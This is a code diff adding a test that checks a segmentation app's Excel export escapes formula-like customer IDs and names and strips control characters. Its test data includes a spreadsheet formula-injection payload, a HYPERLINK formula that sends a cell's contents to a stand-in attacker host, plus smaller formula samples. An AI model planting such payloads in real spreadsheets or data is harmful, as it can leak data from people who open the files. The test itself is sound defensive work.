@@ -297,3 +297,37 @@ def test_no_date_order_question_when_the_data_settles_it(app):
                       ["C2", "02/01/2024", 6]])
     _upload(app, "transactions", "dm2.csv", data)
     assert not [s for s in app.selectbox if s.key == "data_date_order"]
+
+
+def test_hostile_names_loaded_here_export_as_values(app, restore_sample):
+    """What the Data page loads is what the Tiers page exports: formula-like ids and names
+    become text, control characters are gone, so the Excel list opens and runs nothing."""
+    import openpyxl
+
+    from segmentation.export import to_excel_bytes
+    from segmentation.features import customer_view
+    from segmentation.tiers import TierSettings, customer_list, score_customers
+    from segmentation.workspace import Workspace
+
+    ids = ["=1+1", "@C2", "C\x003", "-C4", "+C5", "C6"]
+    names = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "@SUM(A1:A9)", "Zhang\x0bWei",
+             "-2+3", "+86 138", "Li"]
+    tx = csv_bytes([["customer_id", "date", "amount"]] + [
+        [ids[i % 6], f"2024-01-{10 + i}", 10 + i] for i in range(18)])
+    customers = pd.DataFrame({"customer_id": ids, "name": names}).to_csv(index=False).encode()
+    app.switch_page("pages/data.py").run()
+    _upload(app, "transactions", "tx.csv", tx)
+    _upload(app, "customers", "c.csv", customers)
+    app.button(key="data_load").click().run()
+    assert not app.exception
+    assert "invisible control characters" in _plain(app.expander[0].markdown[0].value)
+    engine = Workspace().engine()
+    view = customer_view(engine, as_of=pd.Timestamp("2024-01-27"))
+    listing = customer_list(score_customers(view), TierSettings())
+    listing["name"] = listing["customer_id"].map(view["name"])  # as a role that may see it
+    sheet = openpyxl.load_workbook(io.BytesIO(to_excel_bytes({"customers": listing}))).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    values = {c.value for c in cells}
+    assert {"'=1+1", "'@C2", "C3", "'-C4", "'+C5"} <= values
+    assert {"'@SUM(A1:A9)", "ZhangWei", "'-2+3"} <= values
